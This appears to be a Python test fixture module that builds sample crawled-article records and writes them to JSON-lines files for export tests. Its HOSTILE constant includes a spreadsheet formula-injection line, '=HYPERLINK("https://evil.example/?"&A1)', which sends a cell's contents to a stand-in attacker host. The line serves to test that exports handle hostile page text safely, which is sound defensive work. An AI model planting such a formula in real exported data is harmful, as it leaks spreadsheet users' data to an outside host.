"""Make articles to export, as the records that a crawl writes."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import orjson

from output.records.article import Article, article_id, content_hash
from output.records.field_types import empty_values

if TYPE_CHECKING:
    from pathlib import Path

RUN = "20260301T120000Z-0a1b2c"
# What a web page may put into a text: quotes, all line ends, NUL, a formula, astral characters, an endless line.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1)\n\nShe said "so",\tand; left\r\nwith NUL \0 and \x1f, '
    "a lone \r, \u2028 and \U0001f4a5.\n\n" + "x" * 300_000 + '\\"'
)


def record(path: str, text: str | None = None, **changes: Any) -> dict[str, Any]:
    """Return a valid record of https://example.com/<path>, as JSON."""
    url = f"https://example.com/{path}"
    text = f"What {path} says.\n\nAnd more." if text is None else text
    fields: dict[str, Any] = empty_values(Article) | {
        "id": article_id(url),
        "text": text,
        "url": url,
        "canonical_url": url,
        "requested_url": url,
        "source": "example.com",
        "source_name": "Example",
        "title": path.title(),
        "description": "Of councils",
        "authors": ["Zhou Xin", "Ida Berg"],
        "published": "2026-03-01T01:30:00+02:00",
        "modified": "2026-03-02",
        "section": "Tech",
        "image": "https://example.com/i.jpg",
        "language": "en",
        "language_score": 0.75,
        "free": True,
        "content_hash": content_hash(text),
        "fetched": "2026-03-01T12:00:00Z",
        "run": RUN,
        "removed": {"byline": 1, "related_link": 3},
    }
    return Article.model_validate(fields | changes).model_dump(mode="json")


def bare(path: str, text: str | None = None) -> dict[str, Any]:
    """Return a record in which every optional field is empty."""
    return record(path, text, **empty_values(Article))


def save(path: Path, *records: dict[str, Any] | bytes) -> Path:
    """Write a file of records, and of other lines unchanged."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"".join((r if isinstance(r, bytes) else orjson.dumps(r)) + b"\n" for r in records))
    return path
